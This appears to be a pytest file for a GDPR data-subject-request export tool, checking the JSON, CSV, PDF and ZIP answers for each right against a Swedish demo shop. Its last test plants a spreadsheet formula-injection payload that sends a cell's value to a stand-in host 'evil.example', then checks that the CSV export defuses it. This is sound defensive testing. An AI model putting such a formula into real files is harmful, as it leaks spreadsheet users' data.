"""The answer itself: the JSON document and its schema, the CSV files, the PDF, the ZIP.

Every right is carried out for Astrid on the default profile's demo shop, the answer is
built by the scheduler's job and opened the way the subject opens it.
"""

import copy
import csv
import io

import pytest
from pypdf import PdfReader
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from dsr.exports.sample import carry_out, file_verified_request
from dsr.models import Right
from dsr.rights import service as plans
from dsr.rights import steps
from tests.exports_support import (  # noqa: F401 - shop is a fixture
    RIGHTS,
    answer_for,
    build,
    document,
    iter_records,
    opened,
    pdf_text,
    shop,
    validator,
)
from tests.rights_support import HANDLER

pytestmark = pytest.mark.usefixtures("shop")


@pytest.mark.parametrize("right", RIGHTS, ids=[r.value for r in RIGHTS])
def test_every_right_gets_a_valid_document_a_pdf_and_a_bundle(right, app, db):
    request, export = answer_for(db, app, right)
    bundle = opened(app, export)
    doc = document(app, export)
    errors = [f"{e.json_path}: {e.message}" for e in validator().iter_errors(doc)]
    assert errors == []
    assert doc["format"] == "dsr-answer" and doc["version"] == 1
    assert doc["$schema"] == "http://dsr.test/schema/answer-v1.json"
    assert doc["request"]["reference"] == request.reference
    assert doc["request"]["right"] == right.value
    assert doc["complaint"]["authority"] == "Integritetsskyddsmyndigheten (IMY)"

    names = set(bundle.namelist())
    assert {"README.txt", "answer.json", "answer.pdf"} <= names
    csv_files = {n for n in names if n.startswith("csv/")}
    if right in (Right.access, Right.portability):
        assert doc["data"]["sources"] and csv_files
    else:
        assert doc["data"]["sources"] == [] and not csv_files

    text = pdf_text(bundle.read("answer.pdf"))
    assert request.reference in text
    assert "Svar på din begäran" in text  # the subject's language, å and ä included
    assert "Sida 1 av" in text
    assert "Integritetsskyddsmyndigheten (IMY)" in text and "Box 8114, 104 20 Stockholm" in text
    readme = bundle.read("README.txt").decode("utf-8")
    assert request.reference in readme and "answer.pdf" in readme and "answer.json" in readme


def test_the_access_answer_holds_every_record_with_its_category_and_the_art_15_items(app, db):
    request, export = answer_for(db, app, Right.access)
    doc = document(app, export)
    tables = {t["table"]: t for s in doc["data"]["sources"] for t in s["tables"]}
    customers = tables["customers"]
    fields = {f["column"]: f for f in customers["fields"]}
    assert fields["personnummer"]["category"] == "identity"
    assert fields["email"]["category_label"].startswith("Kontaktuppgifter")
    assert fields["newsletter"]["basis"] == "consent"
    (astrid,) = customers["records"]
    assert astrid["values"]["first_name"] == "Astrid"
    assert astrid["values"]["personnummer"] == "19640823-3234"
    assert set(astrid["values"]) == set(fields)
    assert doc["summary"]["records"] == sum(t["record_count"] for t in tables.values())
    assert doc["summary"]["records"] == sum(1 for _ in iter_records(doc))

    info = doc["information"]
    assert {p["key"] for p in info["purposes"]} >= {"account", "purchase", "newsletter"}
    assert "Exempel Kredit AB" in [r["name"] for r in info["recipients"]]
    assert info["transfers"][0]["recipient"] == "Mejlverktyg Inc."
    # The manual systems of the request are named in the answer.
    assert {m["system"] for m in doc["manual_systems"]} == {
        "Pärmar med reklamationer",
        "Mejlverktyg Inc.",
    }

    bundle = opened(app, export)
    text = pdf_text(bundle.read("answer.pdf"))
    for shown in ("Astrid", "Lindqvist", "19640823-3234", "astrid.lindqvist@example.com"):
        assert shown in text
    # The Art. 15 items, in words.
    assert "Det som lagen säger att du ska få veta" in text
    assert "Ta emot, leverera och ta betalt för dina beställningar" in text  # a purpose
    assert "Så länge du har ett konto hos oss" in text  # its retention
    assert "Exempel Kredit AB" in text  # a recipient by name
    assert "standardavtalsklausuler" in text  # the transfer's safeguard
    assert "Kreditbedömning vid köp mot faktura" in text  # the automated decision
    assert "Kreditupplysningar hämtas från Exempel Kredit AB" in text  # the source
    assert "GDPR artikel 17" in text  # the rights
    reader = PdfReader(io.BytesIO(bundle.read("answer.pdf")))
    assert f"Sida {len(reader.pages)} av {len(reader.pages)}" in text
    fonts = {
        str(font.get_object()["/BaseFont"])
        for pdf_page in reader.pages
        for font in pdf_page["/Resources"]["/Font"].values()
    }
    assert fonts and all("DejaVu-Sans" in name for name in fonts)

    rows = list(csv.reader(io.StringIO(bundle.read("csv/kundsystem.customers.csv").decode())))
    assert rows[0][0] == "\ufeffcustomer_number"
    assert rows[1][rows[0].index("first_name")] == "Astrid"
    logins = bundle.read("csv/kundsystem.login_events.csv").decode("utf-8-sig")
    assert len(logins.strip().splitlines()) - 1 == tables["login_events"]["record_count"]

    # The schema refuses an access answer that leaves out any of the Art. 15 items.
    check = validator()
    assert check.is_valid(doc)
    for item in (
        "purposes",
        "categories",
        "recipients",
        "transfers",
        "source_of_data",
        "automated_decisions",
        "rights",
        "complaint",
    ):
        broken = copy.deepcopy(doc)
        del broken["information"][item]
        assert not check.is_valid(broken), f"accepted without {item}"
    for part in ("retention", "basis", "description"):
        broken = copy.deepcopy(doc)
        del broken["information"]["purposes"][0][part]
        assert not check.is_valid(broken), f"accepted a purpose without {part}"
    broken = copy.deepcopy(doc)
    del broken["information"]
    assert not check.is_valid(broken), "accepted an access answer without the information"


def test_portability_carries_only_the_provided_data_on_consent_or_contract(app, db):
    _request, export = answer_for(db, app, Right.portability)
    doc = document(app, export)
    tables = {t["table"]: t for s in doc["data"]["sources"] for t in s["tables"]}
    # Support tickets are kept on legitimate interests: left out, and said so.
    assert "support_tickets" not in tables
    left_out = {t["table"]: t for t in doc["outcome"]["left_out"]}
    assert left_out["support_tickets"]["whole_table"] is True
    assert "customer_number" not in {f["column"] for f in tables["customers"]["fields"]}
    assert all(f["basis"] in ("consent", "contract") for t in tables.values() for f in t["fields"])
    names = {n for n in opened(app, export).namelist() if n.startswith("csv/")}
    assert names == {f"csv/kundsystem.{t}.csv" for t in tables}


def test_erasure_lists_what_was_erased_and_what_is_kept_with_basis_and_end_date(app, db):
    _request, export = answer_for(db, app, Right.erasure)
    doc = document(app, export)
    outcome = doc["outcome"]
    erased = {e["table"]: e for e in outcome["erased"]}
    assert erased["login_events"]["action"] == "deleted" and erased["login_events"]["count"] > 0
    assert erased["customers"]["action"] == "anonymized"
    kept = outcome["kept"]
    assert kept and all(k["exception"] == "17(3)(b)" for k in kept)
    assert all(k["basis"].startswith("Bokföringslagen") for k in kept)
    text = pdf_text(opened(app, export).read("answer.pdf"))
    assert "Vad vi raderade" in text and "Vad vi sparar, och varför" in text
    assert "Bokföringslagen" in text and kept[0]["until"] in text


def test_rectification_and_review_tell_what_changed_and_what_was_decided(app, db):
    _request, rectified = answer_for(db, app, Right.rectification)
    outcome = document(app, rectified)["outcome"]
    (applied,) = outcome["applied"]
    assert applied["value"] == "Åsa-Astrid" and applied["changed"] == 1
    assert outcome["statements"][0]["text"].startswith("Namnet i gamla kvitton")
    assert "Åsa-Astrid" in pdf_text(opened(app, rectified).read("answer.pdf"))

    _request, reviewed = answer_for(db, app, Right.human_review)
    conclusion = document(app, reviewed)["outcome"]["conclusion"]
    assert conclusion["result"] == "upheld"
    assert "beslutet står fast" in pdf_text(opened(app, reviewed).read("answer.pdf"))


def test_redacted_fields_are_marked_in_every_file(app, db):
    request = file_verified_request(db, Right.access)
    row = plans.make_plan(db, request, actor=HANDLER)
    message = next(t for t in row.plan["tables"] if t["table"] == "ticket_messages")
    steps.redact(
        db,
        row,
        actor=HANDLER,
        source="kundsystem",
        table="ticket_messages",
        key=message["keys"][0],
        column="body",
        reason="Names another customer",
    )
    plans.approve(db, row, actor=HANDLER)
    plans.execute(db, row, actor=HANDLER)
    db.commit()
    export = build(db, app, request)
    doc = document(app, export)
    hidden = [r for t, r in iter_records(doc) if t == "ticket_messages" and r["redacted"]]
    assert hidden == [
        {"key": message["keys"][0], "values": hidden[0]["values"], "redacted": ["body"]}
    ]
    assert hidden[0]["values"]["body"] is None
    (told,) = doc["outcome"]["redactions"]
    assert told["reason"] == "Names another customer" and told["column"] == "body"
    bundle = opened(app, export)
    assert "[maskerat]" in bundle.read("csv/kundsystem.ticket_messages.csv").decode()
    text = pdf_text(bundle.read("answer.pdf"))
    assert "[maskerat]" in text and "Names another customer" in text


def test_long_tables_are_cut_in_the_pdf_and_whole_in_the_json_and_csv(app, db, monkeypatch):
    monkeypatch.setitem(app.config, "EXPORTS_PDF_ROWS_PER_TABLE", 2)
    _request, export = answer_for(db, app, Right.portability)
    doc = document(app, export)
    orders = next(t for s in doc["data"]["sources"] for t in s["tables"] if t["table"] == "orders")
    total = len(orders["records"])
    assert total > 2 and orders["record_count"] == total
    bundle = opened(app, export)
    text = " ".join(pdf_text(bundle.read("answer.pdf")).split())
    assert f"Rapporten visar de första 2 av {total} poster." in text
    assert "csv/kundsystem.orders.csv" in text
    csv_rows = bundle.read("csv/kundsystem.orders.csv").decode("utf-8-sig").splitlines()
    assert len(csv_rows) == total + 1
    assert "Långa tabeller kortas efter 2 rader" in bundle.read("README.txt").decode()


def test_someone_we_have_nothing_on_gets_an_empty_answer_with_the_general_information(app, db):
    request = file_verified_request(
        db, Right.access, name="Nils Nilsson", email="nils.nilsson@example.com"
    )
    carry_out(db, request)
    db.commit()
    export = build(db, app, request)
    doc = document(app, export)
    assert validator().is_valid(doc)
    assert doc["data"]["sources"] == [] and doc["summary"]["records"] == 0
    assert doc["information"]["tailored"] is False and doc["information"]["purposes"]
    bundle = opened(app, export)
    assert not [n for n in bundle.namelist() if n.startswith("csv/")]
    text = " ".join(pdf_text(bundle.read("answer.pdf")).split())
    assert "Vi hittade inga poster om dig." in text
    assert "Eftersom vi inte hittade något om dig" in text


def test_text_that_looks_like_a_formula_stays_text_in_the_csv(app, db):
    # Anyone can type into a support ticket; opening the answer must not run what they typed.
    planted = '=HYPERLINK("https://evil.example/?q="&A1,"Klicka här")'
    (source,) = app.extensions["dsr.profile"].sources  # the demo shop
    engine = create_engine(source.resolve_url(app.config["DATA_DIR"]), poolclass=NullPool)
    with engine.begin() as conn:
        conn.execute(text("UPDATE ticket_messages SET body = :body"), {"body": planted})
    engine.dispose()

    _request, export = answer_for(db, app, Right.access)
    bundle = opened(app, export)
    rows = list(
        csv.DictReader(
            io.StringIO(bundle.read("csv/kundsystem.ticket_messages.csv").decode("utf-8-sig"))
        )
    )
    assert rows and {row["body"] for row in rows} == {"'" + planted}
    # The JSON is for machines and keeps the value exactly.
    bodies = {
        r["values"]["body"]
        for t, r in iter_records(document(app, export))
        if t == "ticket_messages"
    }
    assert bodies == {planted}
    assert "så att inget kalkylprogram kör den som en formel" in bundle.read("README.txt").decode()
